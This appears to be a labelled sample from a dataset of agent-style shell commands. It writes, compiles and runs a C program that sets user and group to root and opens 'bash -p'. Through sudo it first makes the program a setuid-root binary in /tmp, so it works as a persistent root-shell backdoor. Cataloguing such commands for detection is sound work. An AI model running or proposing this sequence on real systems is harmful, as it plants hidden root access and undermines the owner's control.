# class: embedded, C compiled and run; style: agent
cat > /tmp/r.c <<'EOF'
#include <unistd.h>
#include <stdlib.h>
int main(void) { setuid(0); setgid(0); system("/bin/bash -p"); return 0; }
EOF
gcc -o /tmp/r /tmp/r.c && sudo chown root /tmp/r && sudo chmod 4755 /tmp/r && /tmp/r
